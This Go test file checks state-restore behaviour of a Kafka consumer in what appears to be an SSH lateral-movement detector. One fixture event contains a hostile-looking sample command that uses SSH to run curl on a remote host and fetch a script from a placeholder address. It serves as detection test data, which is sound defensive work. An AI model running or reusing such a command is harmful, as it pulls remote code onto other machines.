package consumer

import (
	"context"
	"testing"
	"time"

	"github.com/twmb/franz-go/pkg/kadm"
	"github.com/twmb/franz-go/pkg/kgo"
	"github.com/twmb/franz-go/pkg/kmsg"

	"github.com/sshlateral/sshlateral/processor"
)

// TestRestoreSlowBroker: the broker answers the restore's first fetches
// late (a leader move, a loaded broker). The restore still reads the
// changelog to its end, in both guarantees: ending early would start the
// partition with part of its state (exactly-once took a quiet span for the
// end of an aborted tail).
func TestRestoreSlowBroker(t *testing.T) {
	for _, g := range []Guarantee{AtLeastOnce, ExactlyOnce} {
		t.Run(g.String(), func(t *testing.T) {
			cfg, c := restoreCluster(t, g)
			cl := plainClient(t, c.seeds)
			// A window's state, as a worker writes it.
			part, err := processor.NewPartition(cfg.Processor)
			if err != nil {
				t.Fatal(err)
			}
			ev := processor.Event{Time: time.Now().Add(-time.Minute), Dest: "web-01", User: "root", ProcessName: "ssh",
				Process: "ssh -oBatchMode=yes h curl http://x/a.sh", ProcessID: "1", ParentProcessID: "2", ParentProcessName: "bash"}
			part.Process(&ev, time.Now(), nil)
			changes := part.DrainChanges(nil)
			recs := []*kgo.Record{{Topic: cfg.ChangelogTopic, Key: []byte(offsetKey), Value: encodeOffset(42)}}
			for _, ch := range changes {
				recs = append(recs, &kgo.Record{Topic: cfg.ChangelogTopic, Key: ch.Key, Value: ch.Value})
			}
			if err := cl.ProduceSync(context.Background(), recs...).FirstErr(); err != nil {
				t.Fatal(err)
			}
			slow := 3
			c.kfake.ControlKey(int16(kmsg.Fetch), func(kmsg.Request) (kmsg.Response, error, bool) {
				c.kfake.KeepControl()
				if slow > 0 {
					slow--
					c.kfake.SleepControl(func() { time.Sleep(2 * time.Second) })
				}
				return nil, nil, false
			})
			p := newPipeline(t, cfg)
			ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
			defer cancel()
			st, err := p.restore(ctx, 0)
			if err != nil {
				t.Fatal(err)
			}
			if st.nextOffset != 42 || len(st.changes) != len(changes) {
				t.Fatalf("restored next offset %d and %d state changes, want 42 and %d", st.nextOffset, len(st.changes), len(changes))
			}
		})
	}
}

// TestRestoreEmptiedChangelog: the changelog's records were deleted up to
// its end (DeleteRecords, or retention on a topic created with delete
// instead of compact): there is nothing to read below the end, and the
// restore returns at once with empty state instead of waiting for a record
// that will never come.
func TestRestoreEmptiedChangelog(t *testing.T) {
	for _, g := range []Guarantee{AtLeastOnce, ExactlyOnce} {
		t.Run(g.String(), func(t *testing.T) {
			cfg, c := restoreCluster(t, g)
			cl := plainClient(t, c.seeds)
			if err := cl.ProduceSync(context.Background(), &kgo.Record{Topic: cfg.ChangelogTopic, Key: []byte(offsetKey), Value: encodeOffset(7)}).FirstErr(); err != nil {
				t.Fatal(err)
			}
			if _, err := c.adm.DeleteRecords(context.Background(), kadm.Offsets{cfg.ChangelogTopic: {0: {At: 1}}}); err != nil {
				t.Fatal(err)
			}
			p := newPipeline(t, cfg)
			ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
			defer cancel()
			st, err := p.restore(ctx, 0)
			if err != nil {
				t.Fatalf("restore of an emptied changelog: %v", err)
			}
			if st.nextOffset != 0 || len(st.changes) != 0 {
				t.Fatalf("restored %+v from an emptied changelog", st)
			}
		})
	}
}

// restoreCluster returns a config of guarantee g on a new one-partition
// kfake cluster with the pipeline's topics.
func restoreCluster(t *testing.T, g Guarantee) (Config, testCluster) {
	t.Helper()
	cfg := testConfig(nil)
	cfg.Guarantee, cfg.TransactionTimeout = g, 5*time.Second
	c := newTestCluster(t, 1, topicsOf(cfg)...)
	cfg.Brokers = c.seeds
	return cfg.WithDefaults(), c
}
